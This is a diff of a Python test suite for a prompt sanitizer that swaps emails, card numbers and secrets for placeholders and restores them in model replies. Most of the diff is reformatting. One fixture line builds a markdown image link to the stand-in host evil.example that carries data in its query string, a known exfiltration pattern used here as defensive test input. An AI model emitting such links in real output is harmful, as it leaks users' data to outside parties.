@@ -46,9 +46,14 @@ EVERY = {"personal": ALL, "links": LinkSettings("redact", ("good.example",)), "w
 SCANNERS = {
     "redact": scanner(personal=PersonalSettings(("all",)), links=LinkSettings("redact", ("good.example",), "all")),
     "mask": scanner(output="mask", **EVERY),
-    "flag": scanner(output="flag", personal=PersonalSettings(("all",), output="flag"), links=LinkSettings("flag"), invisible=InvisibleSettings("strip", "flag")),
+    "flag": scanner(
+        output="flag",
+        personal=PersonalSettings(("all",), output="flag"),
+        links=LinkSettings("flag"),
+        invisible=InvisibleSettings("strip", "flag"),
+    ),
     "seen": scanner(output="off", personal=PersonalSettings(("all",), output="mask"), invisible=InvisibleSettings("off", "off")),
-}  # fmt: skip
+}
 URL = f"![x](https://evil.example/?d={LETTERS[:30]})"
 HIDDEN = [
     "\u200b",
@@ -137,7 +142,7 @@ MAIL, CARD = "erika@example.org", "4111 1111 1111 1111"
 RESTORING = configured(personal=ALL, input="restore", words={"quoted": ('the "X" file',)})
 
 
-async def exchanged(text: str, state: Sanitizer = RESTORING, **changes: Any) -> tuple[Any, str]:
+async def exchanged(text: str, state: Sanitizer = RESTORING, **changes: Any) -> tuple[Any, Any]:
     """An exchange whose prompt was `text`, and what went up."""
     exchange = make_exchange(**changes)
     request = await clawproxy_sanitize.prepare_request(exchange, make_request(text), state)
@@ -162,17 +167,28 @@ def joined(events: Sequence[Event], kind: type[Text] | type[Reasoning] | type[Re
 async def test_a_placeholder_goes_up_and_the_original_comes_back() -> None:
     exchange, sent = await exchanged(f"Write to {MAIL}, {CARD}; again {MAIL}.")
     first, second, third = sent.removeprefix("Write to ").removesuffix(".").replace(";", ",").split(", ")
-    assert first.startswith("[MAIL-") and second.startswith("[CARD-") and third == f"again {first}"
-    assert MAIL not in sent and CARD not in sent
+    assert first.startswith("[MAIL-")
+    assert second.startswith("[CARD-")
+    assert third == f"again {first}"
+    assert MAIL not in sent
+    assert CARD not in sent
     out = run(tap_of(exchange), [Text(f"Dear {first}: "), Text(f"{second} is yours")], [Finish("stop"), End()])
     assert joined(out) == f"Dear {MAIL}: {CARD} is yours"
 
 
 VAULT = Vault(b"k" * 32)
-MARKS = {VAULT.placeholder(name, original): original for name, original in (("mail", MAIL), ("card", CARD), ("openai", SAMPLES["openai"]), ("quoted", 'the "X" file'))}  # fmt: skip
-WRITTEN = st.lists(st.one_of(
-    st.sampled_from([mark for mark in MARKS if mark]), st.sampled_from(["[", "]", "[MAIL-", "[MAIL-00000000]", "[[", " ", "x", MAIL]), st.text(max_size=5)
-), max_size=8).map("".join)  # fmt: skip
+MARKS = {
+    VAULT.placeholder(name, original): original
+    for name, original in (("mail", MAIL), ("card", CARD), ("openai", SAMPLES["openai"]), ("quoted", 'the "X" file'))
+}
+WRITTEN = st.lists(
+    st.one_of(
+        st.sampled_from([mark for mark in MARKS if mark]),
+        st.sampled_from(["[", "]", "[MAIL-", "[MAIL-00000000]", "[[", " ", "x", MAIL]),
+        st.text(max_size=5),
+    ),
+    max_size=8,
+).map("".join)
 
 
 @given(WRITTEN, st.lists(st.integers(0, 400), max_size=40))
@@ -217,7 +233,8 @@ async def test_what_has_no_word_is_restored_and_raw_bytes_are_not_sent() -> None
     exchange, sent = await exchanged(MAIL)
     tap = tap_of(exchange)
     [event] = tap.change([Opaque("citation", json.dumps({"text": sent, "n": 1}).encode())])
-    assert isinstance(event, Opaque) and event.data is not None
+    assert isinstance(event, Opaque)
+    assert event.data is not None
     assert json.loads(event.data) == {"text": MAIL, "n": 1}
     assert tap.raw is not None
     assert not tap.raw(json.dumps({"logprob": sent}).encode())
